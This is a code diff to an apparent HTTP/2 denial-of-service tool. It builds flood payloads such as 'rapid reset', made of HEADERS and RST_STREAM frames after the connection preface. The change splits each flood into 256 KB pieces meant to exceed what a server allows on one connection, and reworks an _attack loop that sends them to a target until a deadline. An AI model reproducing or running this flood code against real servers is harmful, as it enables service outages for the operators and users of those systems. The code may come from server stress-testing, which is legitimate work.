@@ -65,17 +65,19 @@ MADE = {
 
 
 def payload(name):
-    """256 KB of one flood, preface first."""
+    """One flood in pieces of 256 KB, preface first, to be sent one after the other on one connection: together they are more than it may send."""
     one, first = MADE.get(name, lambda i: headers(stream(i), HOLD) + frame(RST_STREAM, 0, stream(i), u32(8))), b""
     if name in FLOODS:
         _, _, _, one, first = FLOODS[name]
-    out = [PREFACE, frame(SETTINGS), first]
-    size = 0
+    out, size = [[PREFACE, frame(SETTINGS), first]], 0
     for i in itertools.count():
-        out.append(one(i))
-        size += len(out[-1])
+        out[-1].append(one(i))
+        size += len(out[-1][-1])
         if size > 1 << 18:
-            return b"".join(out)
+            if i > (12000 if name not in FLOODS else 0):
+                return [b"".join(piece) for piece in out]
+            size = 0
+            out.append([])
 
 
 NAMES = [*FLOODS, *MADE, "rapid reset"]
@@ -117,12 +119,14 @@ def _attack(target, sink, tls, period, end, payloads, cut):
         try:
             sock = socket.create_connection(target if now else sink, 5)
             with Raw(sock, tls=tls if now else None, start=False, timeout=5) as c:
+                def over(now=now):
+                    return attacking(period) != now or time.monotonic() > end
+                for piece in itertools.cycle(data) if not now else data:
+                    if over() or not c.go(piece, read=now):
+                        break
                 if now:
-                    c.go(data)
-                    c.go(b"", lambda: attacking(period) != now or time.monotonic() > end)
+                    c.go(b"", over)
                     cut[0] += c.closed
-                while not now and attacking(period) == now and time.monotonic() < end:
-                    c.go(data)
         except (OSError, AssertionError):
             pass
 
